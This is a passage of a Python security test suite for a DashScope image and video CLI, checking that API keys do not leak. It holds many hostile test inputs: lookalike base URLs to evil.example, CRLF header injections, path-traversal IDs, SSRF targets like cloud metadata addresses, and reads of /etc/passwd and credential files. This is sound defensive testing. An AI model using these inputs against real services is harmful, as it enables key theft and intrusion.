"""Attempts to get the key out, each a row of a table: through a cloned project's files, the environment, the service's own
answers, hosts that it names, and the request. An attacker listens wherever a name of the outside leads, and hears no key.

Every name but DashScope's own and its storage leads to the attacker, whose certificate is believed: what keeps the key in
is never that a name does not exist or that a handshake fails.
"""

from __future__ import annotations

import base64
import json
import os
import re
import socket
import ssl
import subprocess
import sys
import threading
import unittest
from contextlib import ExitStack, contextmanager
from pathlib import Path
from typing import Any, Callable, Iterator, NamedTuple, Sequence
from unittest import mock
from urllib.parse import quote, unquote

from qianwen import regions
from qianwen.http.key_guard import guarding
from qianwen.http.messages import Fault, Request, Stream
from qianwen.sandbox import placeholder
from qianwen.sandbox.server import Server, running
from qianwen.sandbox.standin import Incoming, Reply

from .. import BYTECODE, IS_SAMPLE, SCRIPTS
from ..support import DATA, PHOTO, Case, Ran, Recording, Script, answer

CANARY = "sk-ws-H.CANARY7.x9Qp-Zt_4kLm2VbN8wRs6Yd.0f3a"
LEGACY = "sk-7d0c9f3be15a4826b1a2c3d4e5f60718"
ODD = 'proxy+key/with="odd"\\shape&42%'
SECRET = "BucketCanary0Qw7Zk3LmT9xV1sR"  # of the user's own OSS bucket
STORAGE = "storage.oss-cn-beijing.aliyuncs.com"
EVIL = "https://evil.example"
OUTSIDE = "93.184.216.34"  # a public address, which is this machine for the tests
PNG = placeholder.png(64, 64, "evil", [])
PAID = ("sync", "stream", "submit")


def spellings(key: str) -> list[bytes]:
    """A key as it might be written down: plain, escaped, in a file's name, and what Base64 makes of it wherever it begins."""
    plain = [key, key.upper(), key.lower(), json.dumps(key)[1:-1], quote(key, safe="")]
    plain.append("-".join(re.findall(r"[^\W_]+", key.lower())))
    cores = [base64.b64encode(b"\0" * shift + key.encode()).rstrip(b"=")[shift + 1 : -2] for shift in range(3)]
    return [text.encode() for text in plain] + cores + [core.translate(bytes.maketrans(b"+/", b"-_")) for core in cores]


class Attacker:
    """Listens on loopback, takes TLS and plain connections alike, keeps every byte, and answers with a picture.

    `/to?URL` is answered with a redirect to the URL.
    """

    def __init__(self) -> None:
        self.port = 0
        self.forget()
        self._tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self._tls.load_cert_chain(DATA / "tls" / "cert.pem", DATA / "tls" / "key.pem")

    def forget(self) -> None:
        self.heard: list[bytes] = []
        self.connections = 0

    def settle(self) -> None:
        """Come back when everybody who knocked before was let in."""
        with socket.create_connection(("127.0.0.1", self.port)) as connection:
            connection.sendall(b"GET / HTTP/1.1\r\n\r\n")
            connection.recv(1)
        self.connections -= 1

    @contextmanager
    def listening(self) -> Iterator[Attacker]:
        over = threading.Event()
        with socket.create_server(("127.0.0.1", 0)) as server:
            server.settimeout(0.02)
            thread = threading.Thread(target=self._accept, args=(server, over), daemon=True)
            thread.start()
            try:
                self.port = server.getsockname()[1]
                yield self
            finally:
                over.set()
                thread.join()

    def _accept(self, server: socket.socket, over: threading.Event) -> None:
        while not over.is_set():
            try:
                connection, _ = server.accept()
            except OSError:
                continue
            self.connections += 1
            threading.Thread(target=self._serve, args=(connection, self.heard), daemon=True).start()

    def _serve(self, connection: socket.socket, heard: list[bytes]) -> None:
        connection.settimeout(5)
        try:
            if connection.recv(1, socket.MSG_PEEK) == b"\x16":
                connection = self._tls.wrap_socket(connection, server_side=True)
            with connection:
                while self._exchange(connection, heard):
                    pass
        except OSError:
            connection.close()

    def _exchange(self, connection: socket.socket, heard: list[bytes]) -> bool:
        """One request and its answer; False when the other side has nothing more to say."""
        data = b""
        while b"\r\n\r\n" not in data:
            block = connection.recv(65536)
            heard.append(block)
            if not block:
                return False
            data += block
        length = re.search(rb"(?i)\ncontent-length: *(\d+)", data)
        missing = int(length[1]) - len(data.partition(b"\r\n\r\n")[2]) if length else 0
        while missing > 0:
            block = connection.recv(65536)
            heard.append(block)
            if not block:
                return False
            missing -= len(block)
        target = data.split(b" ")[1].decode()
        if "/to?" in target:
            head = f"HTTP/1.1 302 Found\r\nLocation: {unquote(target.partition('?')[2])}\r\nContent-Length: 0\r\n\r\n"
            connection.sendall(head.encode())
        else:
            head = f"HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Length: {len(PNG)}\r\n\r\n"
            connection.sendall(head.encode() + PNG)
        return True


class Hostile(Recording):
    """A stand-in whose replies can be spoiled. tricks: route → what becomes of its reply.

    bought: the purchases that it accepted, and did not answer with a 429, which proves that there is none.
    """

    def __init__(self, clock: Any) -> None:
        super().__init__(clock)
        self.tricks: dict[str, Callable[[Reply], Reply]] = {}
        self.bought = 0

    def handle(self, route: str, incoming: Incoming) -> Reply:
        reply = super().handle(route, incoming)
        trick = self.tricks.get(route)
        told = trick(reply) if trick else reply
        self.bought += route in PAID and reply.status == 200 and told.status != 429
        return told


class Attack(NamedTuple):
    """arms: what makes the world hostile, in order.  codes: exit codes that are right.  bought: purchases, as the service
    counts them.

    In texts and words {evil} stands for the attacker's host and port, {key} for the key, {home} for the home folder.
    meets: the attacker may be spoken to, without a key.
    """

    name: str
    arms: Sequence[Callable[[Attacked], None]]
    argv: Sequence[str]
    codes: Sequence[int]
    bought: int
    meets: bool = False
    program: str = "image"


class Attacked(Case):
    """A world that is prepared by the arms of an attack."""

    key: str
    evil: str
    local_base: str
    attacker: Attacker

    def begin(self, key: str = CANARY) -> None:
        """A world of its own for one attack."""
        super().setUp()
        self.key = key
        self.env = {"DASHSCOPE_API_KEY": key}
        self.attacker.forget()
        self.evil = f"127.0.0.1:{self.attacker.port}"
        self.believes = True
        self.leads_to: dict[str, str] = {}  # host → IP address; every other name leads to OUTSIDE

    def filled(self, text: str) -> str:
        known = {"evil": self.evil, "key": self.key, "secret": SECRET, "home": str(self.home), "photo": str(PHOTO)}
        for name, value in known.items():
            text = text.replace(f"{{{name}}}", value)
        return text

    def write(self, path: Path, text: str) -> None:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(self.filled(text), encoding="utf-8")

    def contents(self) -> dict[Path, bytes]:
        """Every file in the world, with its name among its bytes."""
        found = {}
        for path in self.folder.rglob("*"):
            data = path.read_bytes() if path.is_file() and not path.is_symlink() else b""
            found[path] = os.fsencode(path) + b"\n" + data
        return found

    def run_all(self, rows: Sequence[Attack], *keys: str) -> None:
        with Attacker().listening() as self.attacker, self.secure_api() as server, self.names(server):
            for key in keys or (CANARY,):
                for row in rows:
                    with self.subTest(row.name):
                        self.attack(row, server, key)

    def attack(self, row: Attack, server: Server, key: str = CANARY) -> None:
        """Run a row and hold what must be true of all of them."""
        self.begin(key)
        server.standin = self.api = Hostile(self.clock)
        self.api.origin = f"https://{STORAGE}"
        for arm in row.arms:
            arm(self)
        before = self.contents()
        run = self.video if row.program == "video" else self.image
        ran = run(*map(self.filled, row.argv))
        told = f"{ran.code}\n{ran.stdout}\n{ran.stderr}"
        self.assertIn(ran.code, row.codes, told)
        self.assertNotIn("Traceback", told)
        self.assertEqual(self.api.bought, row.bought, told)
        self.judge(ran, before, row.meets)
        used = [sent.headers.get("authorization", "") for sent in self.api.sent]
        self.assertNotIn(THEIR_KEY, " ".join(used), "the attacker's key was used")
        astray = [sent for sent in self.api.of("") if sent.headers["host"] != STORAGE]
        self.assertEqual(astray, [], "the API was asked for what it does not have")
        self.assertFalse((self.folder / "stolen").exists(), "a file went where the attacker wanted it")
        if ran.code == 7 and row.name.startswith(("result at http", "video at http", "a name", "a redirect to a name")):
            self.assertEqual(ran.json["error"]["billed"], "yes")
            self.assertTrue(ran.json.get("image_urls") or ran.json.get("video_url"), "a link was lost")
        if 3 in row.codes and ran.code == 3:
            self.assertEqual(self.api.sent, [], "a refused request was sent")

    def judge(self, ran: Ran, before: dict[Path, bytes], meets: bool) -> None:
        """No key was heard, none was written, and nobody was spoken to that should not be."""
        written = [content for path, content in self.contents().items() if before.get(path) != content]
        everything = [ran.stdout.encode("utf-8", "replace"), ran.stderr.encode("utf-8", "replace"), *written]
        self.attacker.settle()
        heard = b"\n".join(self.attacker.heard)
        for spelling in spellings(self.key) + spellings(SECRET):
            self.assertNotIn(spelling, heard, "the attacker heard the key")
            for text in everything:
                self.assertNotIn(spelling, text, "the key was written down")
        if not meets:
            self.assertEqual(self.attacker.connections, 0, "the attacker was spoken to")

    @contextmanager
    def secure_api(self) -> Iterator[Server]:
        """DashScope and its storage, behind TLS."""
        server = Server(Hostile(self.clock))
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(DATA / "tls" / "cert.pem", DATA / "tls" / "key.pem")
        server.socket = context.wrap_socket(server.socket, server_side=True)
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
        thread.start()
        try:
            yield server
        finally:
            server.shutdown()
            server.server_close()
            thread.join()

    @contextmanager
    def names(self, server: Server) -> Iterator[None]:
        """Make the names of the outside lead here, and certificates be believed."""
        look_up = socket.getaddrinfo

        def led_astray(spelled: str | bytes, port: Any, *args: Any, **more: Any) -> Any:
            host = spelled.decode() if isinstance(spelled, bytes) else spelled
            self.attacker.heard.append(host.encode())  # whoever asks for a name tells it to strangers
            if host in ("127.0.0.1", "localhost", "::1"):
                return look_up(host, port, *args, **more)
            ours = regions.is_public(host) or host == STORAGE
            there = self.leads_to.get(host, OUTSIDE)
            port = server.server_address[1] if ours else self.attacker.port
            return [(*found[:4], (there, port)) for found in look_up("127.0.0.1", port, *args, **more)]

        connect = socket.socket.connect

        def come_here(sock: socket.socket, address: Any) -> None:
            connect(sock, ("127.0.0.1", address[1]) if address[0] in (OUTSIDE, *self.leads_to.values()) else address)

        def believing(*_: Any, **__: Any) -> ssl.SSLContext:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname = False
            if self.believes:
                context.verify_mode = ssl.CERT_NONE
            return context

        with ExitStack() as stack:
            stack.enter_context(mock.patch("socket.getaddrinfo", led_astray))
            stack.enter_context(mock.patch.object(socket.socket, "connect", come_here))
            stack.enter_context(mock.patch("ssl.create_default_context", believing))
            stack.enter_context(
                mock.patch("os.fsync", lambda _: None)
            )  # nobody pulls the plug here, and disks are slow
            yield


# What arms a world -----------------------------------------------------------------------------------------------

Arm = Callable[[Attacked], None]


def dotenv(text: str, root: bool = False) -> Arm:
    """A `.env` file in the current folder, or in the root of the repository that it lies in."""

    def arm(world: Attacked) -> None:
        (world.folder / ".git").mkdir(exist_ok=True)
        world.write((world.folder if root else world.cwd) / ".env", text)

    return arm


def tracked(world: Attacked) -> None:
    """`.env` of the current folder came with the repository around it: git has it under version control."""
    name = b"cwd/.env"
    entry = bytes(60) + len(name).to_bytes(2, "big") + name
    index = b"DIRC" + (2).to_bytes(4, "big") + (1).to_bytes(4, "big") + entry + bytes(8 - len(entry) % 8)
    (world.folder / ".git").mkdir(exist_ok=True)
    (world.folder / ".git" / "index").write_bytes(index)


def becomes(make: Callable[[Path], object]) -> Arm:
    """Something is done to `.env` of the current folder."""

    def arm(world: Attacked) -> None:
        make(world.cwd / ".env")

    return arm


def variables(**values: str) -> Arm:
    return lambda world: world.env.update({name: world.filled(value) for name, value in values.items()})


def file(path: str, text: str) -> Arm:
    """A file of the home folder."""
    return lambda world: world.write(world.home / path, text)


def link(name: str, target: str) -> Arm:
    """A link in the current folder."""
    return lambda world: (world.cwd / name).symlink_to(world.filled(target))


def no_key(world: Attacked) -> None:
    world.env.clear()


def disbelief(world: Attacked) -> None:
    """Certificates are looked at, as in real life."""
    world.believes = False


def redirect(route: str, status: int, location: str) -> Arm:
    def arm(world: Attacked) -> None:
        world.api.tricks[route] = lambda _: Reply(status, {"Location": world.filled(location)}, b"")

    return arm


def says(route: str, body: str, status: int = 200, kind: str = "application/json") -> Arm:
    """The route answers with this text, whatever it was asked."""

    def arm(world: Attacked) -> None:
        text = body
        for name, value in (("key", world.key), ("secret", SECRET)):
            text = text.replace(f"{{{name}}}", json.dumps(value)[1:-1] if "json" in kind else value)
        headers = {"Content-Type": world.filled(kind)}
        world.api.tricks[route] = lambda _: Reply(status, headers, text.encode())

    return arm


def edits(route: str, **changes: object) -> Arm:
    """The route's JSON answer with other values; a name such as output__task_id leads into it."""

    def arm(world: Attacked) -> None:
        def spoil(reply: Reply) -> Reply:
            assert isinstance(reply.body, bytes)
            answer = json.loads(reply.body)
            for name, value in changes.items():
                *outer, last = name.split("__")
                place = answer
                for step in outer:
                    place = place.setdefault(step, {})
                place[last] = _filled(value, world)
            return Reply(reply.status, reply.headers, json.dumps(answer).encode())

        world.api.tricks[route] = spoil

    return arm


def _filled(value: object, world: Attacked) -> object:
    if isinstance(value, str):
        return world.filled(value)
    if isinstance(value, list):
        return [_filled(entry, world) for entry in value]
    return {name: _filled(entry, world) for name, entry in value.items()} if isinstance(value, dict) else value


def leads(address: str) -> Arm:
    """The attacker's name leads to this IP address."""
    return lambda world: world.leads_to.update({"evil.example": address})


def pictures(*urls: str) -> Arm:
    """The answer to a synchronous request names these pictures."""
    content = [{"type": "image", "image": url} for url in urls]
    return edits("sync", output={"choices": [{"finish_reason": "stop", "message": {"role": "assistant", "content": content}}], "finished": True})  # fmt: skip


# The attacks -----------------------------------------------------------------------------------------------------

NOW = ("x", "--print-response")
TASK = ("x", "--async", "--print-response")
UPLOAD = ("x", "--image", "{photo}", "--print-response")
LIST = file("rows.txt", "a cat\na dog\n")
BATCH = ("--batch", "{home}/rows.txt", "--output", "out", "--print-response")
STREAM = ("x", "--set", "enable_interleave=true", "--set", "stream=true", "--print-response")

LOOKALIKES = (
    "https://dashscope.aliyuncs.com.evil.example/api/v1",
    "https://evil-dashscope.aliyuncs.com/api/v1",
    "https://dashscope.aliyuncs.com./api/v1",
    "https://dashscope.aliyuncs.com:8443/api/v1",
    "https://dashscope.aliyuncs.com@evil.example/api/v1",
    "https://evil.example/dashscope.aliyuncs.com/api/v1",
    "https://evil.example\\.dashscope.aliyuncs.com",
    "https://dashscope.aliyuncs.com\\@evil.example",
    "https://evil.example#dashscope.aliyuncs.com",
    "https://evil.example?dashscope.aliyuncs.com",
    "https://dаshscope.aliyuncs.com/api/v1",  # a Cyrillic a
    "https://dashscope。aliyuncs.com.evil.example",
    "https://dashscope.aliyuncs.com%2eevil.example",
    "https://bucket.oss-cn-beijing.aliyuncs.com/api/v1",
    "https://ws-1.cn-beijing.maas.aliyuncs.com.evil.example",
    "https://a.b.cn-beijing.maas.aliyuncs.com",
    "https://ws-1.cn-evil.maas.aliyuncs.com",
    "https://[::1]:1@evil.example",
    "//evil.example/api/v1",
    "evil.example",
    "HTTPS://EVIL.EXAMPLE",
)
BASES_OF_A_FILE = (
    *(f"{name}={url}" for name in ("QWEN_BASE_URL", "DASHSCOPE_HTTP_BASE_URL") for url in (EVIL, "http://{evil}/api/v1", "https://{evil}", "http://evil.example")),
    *(f"QWEN_BASE_URL={url}" for url in LOOKALIKES),
    f"QWEN_REGION=none\nQWEN_BASE_URL={EVIL}",
    f"export DASHSCOPE_HTTP_BASE_URL='{EVIL}'",
    f"\ufeffDASHSCOPE_HTTP_BASE_URL=\"{EVIL}\"",
)  # fmt: skip
IGNORED_IN_A_FILE = (
    "HTTPS_PROXY=http://{evil}\nHTTP_PROXY=http://{evil}\nALL_PROXY=http://{evil}\nhttps_proxy=http://{evil}\nall_proxy=socks5://{evil}",
    "SSL_CERT_FILE=/dev/null\nSSL_CERT_DIR=/dev/null\nREQUESTS_CA_BUNDLE=/dev/null\nSSLKEYLOGFILE=../stolen",
    "QIANWEN_STATE_DIR=../stolen\nXDG_STATE_HOME=../stolen\nLOCALAPPDATA=../stolen\nHOME=../stolen",
    "DASHSCOPE_API_KEY_FILE_PATH=/etc/passwd",
    "DASHSCOPE_BASE_URL=https://evil.example\nQIANWEN_BASE_URL=https://evil.example\nDASHSCOPE_COMPATIBLE_BASE_URL=https://evil.example",
    "QWEN_SKILLS_REPO=evil/evil\nQWEN_PROVIDER=evil\nPYTHONPATH=.\nLD_PRELOAD=./evil.so",
    "DASHSCOPE_API_KEY=sk-of-the-attacker-0123456789",
    "OUTPUT_DIR={home}/.ssh",
    "DASHSCOPE_HTTP_BASE_URL",
    "NAME=" + "x" * 100_000,
)  # fmt: skip

# Why a `.env` is not believed. Each has the attacker's key and bucket; the user's own key is in the SDK's file.
THEIR_KEY = "sk-of-the-attacker-0123456789"
THEIRS = f"DASHSCOPE_API_KEY={THEIR_KEY}\nQWEN_TMP_OSS_BUCKET=evil-bucket\nQWEN_TMP_OSS_REGION=cn-beijing\nQWEN_TMP_OSS_AK_ID=LTAI0123456789\nQWEN_TMP_OSS_AK_SECRET=theirs-0123\nOUTPUT_DIR=../stolen\n"
DOUBTS: tuple[tuple[str, Arm], ...] = (
    ("it is under version control", tracked),
    ("others can write to it", becomes(lambda path: path.chmod(0o666))),
    ("it is larger than 1 MB", becomes(lambda path: os.truncate(path, 2**21))),
    ("it is a pipe", becomes(lambda path: (path.unlink(), os.mkfifo(path)))),  # type: ignore[func-returns-value]
    ("it is a device", becomes(lambda path: (path.unlink(), path.symlink_to("/dev/zero")))),  # type: ignore[func-returns-value]
)  # fmt: skip
BUCKET = "QWEN_TMP_OSS_BUCKET=evil-bucket\nQWEN_TMP_OSS_REGION=cn-beijing"
STATE = ".local/state/qianwen-media-generation"
LEDGER = "".join(
    json.dumps({"v": 1, "run": "0123456789abcdef", "time": "2023-11-14T22:13:20Z", **fields}) + "\n"
    for fields in (
        {"event": "begin", "at": 1.7e9, "program": "image.py", "model": "wan2.6-t2i", "mode": "t2i", "region": "cn-beijing", "base": f"{EVIL}/api/v1", "request": "0", "folder": "/tmp", "stem": "x", "suffix": "", "is_task": True},
        {"event": "task", "task_id": "t"},
    )
)  # fmt: skip

FILES = (
    *(
        Attack(f"{text[:70]!r} in .env of the {'root' if root else 'folder'}", [dotenv(text, root)], NOW, [4], 0)
        for text in BASES_OF_A_FILE
        for root in (False, True)
    ),
    *(
        Attack(f"{text[:70]!r} in .env of the {'root' if root else 'folder'}", [dotenv(text, root)], TASK, [0], 1)
        for text in IGNORED_IN_A_FILE
        for root in (False, True)
    ),
    Attack(
        "a known host with a file's base, and a key of the SDK",
        [no_key, file(".dashscope/api_key", "{key}"), dotenv(f"QWEN_BASE_URL={EVIL}")],
        NOW,
        [4], 0,
    ),
    Attack(
        "a known host with a file's base, and a key of the cloud tools",
        [no_key, file(".alibabacloud/credentials", "[default]\ndashscope_api_key = {key}\n"), dotenv(f"QWEN_BASE_URL={EVIL}")],
        NOW,
        [4], 0,
    ),
    Attack(
        "the key in .env of the folder, the base in .env of the root",
        [no_key, dotenv("DASHSCOPE_API_KEY={key}"), dotenv(f"QWEN_BASE_URL={EVIL}", root=True)],
        NOW,
        [4], 0,
    ),
    *(
        Attack(f"a workspace that is none: {text!r}", [dotenv(f"DASHSCOPE_WORKSPACE={text}")], NOW, [4], 0)
        for text in ("evil.example/", "x@evil.example", "x.evil.example#", "http://{evil}", "{evil}", "x\\@evil.example", "{key}")
    ),
    Attack("a region that is none", [dotenv("QWEN_REGION=evil.example")], NOW, [3], 0),
    Attack("an output folder that is none", [dotenv("OUTPUT_DIR=\0")], NOW, [3], 0),
    *(
        Attack(f"a bucket's {text!r} in .env", [variables(OSS_ACCESS_KEY_ID="LTAI0123456789", OSS_ACCESS_KEY_SECRET="{secret}"), dotenv(f"{BUCKET}\n{text}")], UPLOAD, [0, 3, 4], 0)
        for text in ("QWEN_TMP_OSS_ENDPOINT=https://evil.example", "QWEN_TMP_OSS_ENDPOINT=http://{evil}", "QWEN_TMP_OSS_ENDPOINT=dashscope.aliyuncs.com", "QWEN_TMP_OSS_REGION=evil.example/", "QWEN_TMP_OSS_BUCKET=x.evil.example/", "QWEN_TMP_OSS_AK_ID=x")
    ),
    Attack("a bucket of the attacker's in .env, and the user's keys", [variables(OSS_ACCESS_KEY_ID="LTAI0123456789", OSS_ACCESS_KEY_SECRET="{secret}"), dotenv(BUCKET)], UPLOAD, [0, 1, 5], 1, meets=True),
    Attack("a ledger with another base", [file(f"{STATE}/ledger-2023-11.jsonl", LEDGER)], ("--resume", "--print-response"), [4], 0),
    Attack("a task in a ledger with another base", [file(f"{STATE}/ledger-2023-11.jsonl", LEDGER)], ("--task-id", "t", "--poll-once", "--print-response"), [1, 2], 0),
    *(
        Attack(f".env is not believed: {name}", [no_key, file(".dashscope/api_key", "{key}"), dotenv(THEIRS), arm], UPLOAD, [0], 1)
        for name, arm in (DOUBTS if os.name != "nt" else DOUBTS[:1])
    ),
    Attack(".env is a link to the key", [file("key", "{key}"), link(".env", "{home}/key")], NOW, [0], 1),
)  # fmt: skip

BASES_OF_THE_ENVIRONMENT = (
    "http://evil.example/api/v1",
    "http://dashscope.aliyuncs.com/api/v1",
    "http://127.0.0.1.evil.example/api/v1",
    "http://localhost.evil.example",
    "http://127.0.0.1@evil.example/api/v1",
    "http://user:password@127.0.0.1/api/v1",
    "http://10.0.0.1/api/v1",
    "http://0.0.0.0/api/v1",
    "http://2130706433/api/v1",
    "http://0x7f.1/api/v1",
    "https://dashscope.aliyuncs.com@evil.example/api/v1",
    "https://user:password@evil.example/api/v1",
    "https://dashscope.aliyuncs.com\\@evil.example",
    "https://evil.example\\.dashscope.aliyuncs.com",
    "https://evil.example?x=https://dashscope.aliyuncs.com/api/v1",
    "https://evil.example#dashscope.aliyuncs.com",
    "https://dаshscope.aliyuncs.com/api/v1",  # a Cyrillic a
    "https://dashscope.aliyuncs.com%2eevil.example",
    "https://dashscope.aliyuncs.com:99999/api/v1",
    "ftp://evil.example/api/v1",
    "file:///tmp/api/v1",
    "//evil.example/api/v1",
    "evil.example",
)
ENVIRONMENT = (
    *(Attack(f"{url} in the environment", [variables(DASHSCOPE_HTTP_BASE_URL=url)], NOW, [4], 0) for url in BASES_OF_THE_ENVIRONMENT),
    *(Attack(f"{url} in the environment, by its other name", [variables(QWEN_BASE_URL=url)], NOW, [4], 0) for url in BASES_OF_THE_ENVIRONMENT[:3]),
    Attack("a proxy that shows a certificate of its own", [disbelief, variables(HTTPS_PROXY="http://{evil}")], NOW, [5], 0, meets=True),
    Attack("a host with a certificate that nobody signed", [disbelief, variables(QWEN_BASE_URL=EVIL)], NOW, [5], 0, meets=True),
    Attack("a key with another header", [variables(DASHSCOPE_API_KEY="{key}\r\nX-Evil: 1")], NOW, [4], 0),
    Attack("a key with a host", [variables(DASHSCOPE_API_KEY="{key}\r\nHost: evil.example")], NOW, [4], 0),
    Attack("a region with another header", [], ("x", "--region", "cn-beijing\r\nHost: evil.example"), [3], 0),
    Attack("a region that is a host", [], ("x", "--region", "evil.example"), [3], 0),
    Attack("a model with another header", [], ("x", "--model", "qwen-image\r\nHost: evil.example"), [3], 0),
    Attack("a model that is a path", [], ("x", "--image", "{photo}", "--model", "../../evil?x=&action=evil#"), [0, 1, 3], 0),
    Attack("a key file that is another secret", [no_key, file("secret", "{key}\n{key}\n"), variables(DASHSCOPE_API_KEY_FILE_PATH="{home}/secret")], NOW, [4], 0),
)  # fmt: skip

REDIRECTED = (("sync", NOW, [6], 1), ("submit", TASK, [6], 1), ("stream", STREAM, [6], 1), ("poll", TASK, [2, 5], 1), ("policy", UPLOAD, [5], 0), ("upload", UPLOAD, [5], 0))  # fmt: skip
REDIRECTS = (
    *(
        Attack(f"{status} for {route} to {location}", [redirect(route, status, location)], argv, codes, bought)
        for route, argv, codes, bought in REDIRECTED
        for status in (301, 302, 303, 307, 308)
        for location in ("https://evil.example/api/v1", "http://{evil}/x")
    ),
    *(
        Attack(f"{status} for the list of tasks, after {first}", [redirect("submit", first, EVIL), redirect("list", status, EVIL)], TASK, [6], 1)
        for first, status in ((302, 302), (307, 307), (500, 308))
    ),
    *(Attack(f"{status} for cancel", [redirect("cancel", status, EVIL)], ("--cancel", "t", "--print-response"), [1, 3, 5, 6], 0) for status in (301, 302, 303, 307, 308)),
    *(Attack(f"{status} for --resume", [file(f"{STATE}/ledger-2023-11.jsonl", LEDGER.replace(EVIL, "https://dashscope.aliyuncs.com")), redirect("poll", status, EVIL)], ("--resume", "--print-response"), [5], 0) for status in (302, 307)),
    Attack("a redirect that says the key", [redirect("sync", 302, f"{EVIL}/{{key}}")], NOW, [6], 1),
    Attack("a redirect for one look", [redirect("poll", 302, EVIL)], ("--task-id", "t", "--poll-once", "--print-response"), [5], 0),
)  # fmt: skip

UPLOAD_HOSTS = (
    ("http://evil.example", [1], False),
    ("http://{evil}", [1], False),
    ("http://storage.oss-cn-beijing.aliyuncs.com", [1], False),
    ("ftp://evil.example", [1], False),
    ("file:///etc", [1], False),
    ("//evil.example", [1], False),
    ("https:evil.example", [1, 5], False),
    ("https://[evil", [1, 5], False),
    (EVIL, [0, 1, 5], True),
    (f"https://{STORAGE}.evil.example", [0, 1, 5], True),
    (f"https://{STORAGE}@evil.example", [0, 1, 5], True),
    (f"{EVIL}/to?http://evil.example/", [0, 1, 5], True),
    (f"{EVIL}/\r\nAuthorization: x", [0, 1, 5], True),
)
INSIDE = (
    "169.254.169.254", "100.100.100.200", "10.0.0.1", "2130706433", "localhost", "[::ffff:169.254.169.254]", "127.0.0.1", "192.168.1.1",
    "172.16.0.1", "0x7f.1", "0177.0.0.1", "0xa9fea9fe", "0", "0.0.0.0", "x.localhost", "127.1.", "[::1]", "[::]", "[fd00::1]", "[fe80::1]", "[::ffff:7f00:1]",
    "[::10.0.0.1]", "[64:ff9b::a00:1]", "[2002:a00:1::]", "224.0.0.1", "100.64.0.1", "198.18.0.1", "999.1.1.1",
)  # fmt: skip
RESULTS = (
    ("http://evil.example/x.png", [7], False),
    ("http://{evil}/x.png", [7], False),
    ("http://localhost:1/x.png", [7], False),
    ("file:///etc/passwd", [7], False),
    ("file://{home}/.dashscope/api_key", [7], False),
    ("/etc/passwd", [7], False),
    ("ftp://evil.example/x.png", [7], False),
    ("gopher://evil.example/x", [7], False),
    ("data:image/png;base64,iVBORw0KGgo=", [0], False),  # it came whole, and is saved as it came
    ("javascript:alert(1)", [7], False),
    ("//evil.example/x.png", [7], False),
    ("https://[evil/x.png", [7], False),
    ("https:///x.png", [7], False),
    *((f"https://{host}/x.png", [7], False) for host in INSIDE),
    (f"{EVIL}:8443/x.png", [7], False),
    (f"https://{STORAGE}:22/x.png", [7], False),
    *((f"{EVIL}/to?https://{host}/x.png", [7], True) for host in INSIDE[:6]),
    (f"{EVIL}/to?{EVIL}:8443/x.png", [7], True),
    (f"{EVIL}/x.png", [0], True),
    (f"https://{STORAGE}.evil.example/x.png", [0], True),
    (f"https://{STORAGE}@evil.example/x.png", [0, 7], True),
    (f"{EVIL}/to?{EVIL}/x.png", [0], True),
    (f"{EVIL}/to?{EVIL}/to%3F{EVIL}/x.png", [0], True),
    (f"{EVIL}/to?/to%3F/to%3F/to%3F/to%3F/x.png", [0, 7], True),
    (f"{EVIL}/to?http://evil.example/x.png", [7], True),
    (f"{EVIL}/to?http://{{evil}}/x.png", [7], True),
    (f"{EVIL}/to?file:///etc/passwd", [7], True),
    (f"{EVIL}/to?ftp://evil.example/", [7], True),
    (f"{EVIL}/to?data:image/png;base64,iVBORw0KGgo=", [7], True),
    (f"{EVIL}/to?https://dashscope.aliyuncs.com/api/v1/tasks/x", [7], True),
)
HOSTS_THAT_ARE_NAMED = (
    *(Attack(f"upload to {url}", [edits("policy", data__upload_host=url)], UPLOAD, codes, 0, meets) for url, codes, meets in UPLOAD_HOSTS),
    *(Attack(f"result at {url}", [pictures(url)], NOW, codes, 1, meets) for url, codes, meets in RESULTS),
    *(
        Attack(f"a name that leads to {address}", [leads(address), pictures(f"{EVIL}/x.png")], NOW, [7], 1)
        for address in ("127.0.0.1", "10.0.0.1", "169.254.169.254", "100.100.100.200", "::1", "::ffff:10.0.0.1", "fd00::1")
    ),
    Attack("a redirect to a name that leads inside", [leads("10.0.0.1"), redirect("result", 302, f"{EVIL}/x.png")], NOW, [7], 1),
    Attack("a name that a local proxy answers for", [leads("198.18.0.7"), pictures(f"{EVIL}/x.png")], NOW, [0], 1, meets=True),
    *(
        Attack(f"video at {url}", [edits("poll", output__task_status="SUCCEEDED", output__video_url=url)], ("x", "--print-response"), [7], 1, program="video")
        for url in ("http://evil.example/x.mp4", "file:///etc/passwd", "ftp://evil.example/x.mp4")
    ),
    *(
        Attack(f"a result's {status} to {location}", [redirect("result", status, location)], NOW, codes, 1, meets)
        for status in (301, 302, 303, 307, 308)
        for location, codes, meets in (("http://{evil}/x.png", [7], False), ("file:///etc/passwd", [7], False), (f"{EVIL}/x.png", [0], True))
    ),
)  # fmt: skip

TASK_IDS = (
    "../../../evil", "..", "../..", "..%2f..%2fevil", "x/../../uploads?action=getPolicy", "x?a=b", "x#y", "@evil.example", "//evil.example/x", "https://evil.example/x",
    "x\r\nHost: evil.example", "x\nX-Evil: 1", "x HTTP/1.1\r\nHost: evil.example\r\n\r\n", "x\0y", "\u202ex", "x" * 5000, "x y", "é猫", "\ud800",
)  # fmt: skip
IDS = (
    *(Attack(f"the task id {text[:30]!r} of the service", [edits("submit", output__task_id=text)], TASK, [1, 2, 3, 5, 6], 1) for text in TASK_IDS),
    *(Attack(f"--task-id={text[:30]!r}", [], (f"--task-id={text}", "--poll-once", "--print-response"), [1, 2, 3], 0) for text in TASK_IDS),
)  # fmt: skip

SECRETS = (
    "/etc/passwd", "{home}/.dashscope/api_key", "~/.dashscope/api_key", ".env", "./.env", "../cwd/.env", "file:///etc/passwd",
    "file://{home}/.dashscope/api_key", "FILE:{home}/.dashscope/api_key", "file:.env", "link.png", "link-to-folder/api_key", "/proc/self/environ", "/dev/stdin",
    "{home}/.dashscope", "~/.alibabacloud/credentials", "netrc.png", "loop.png", "header.png", "/dev/zero",
)  # fmt: skip
SECRET_FILES: tuple[Arm, ...] = (
    file(".dashscope/api_key", "{key}"),
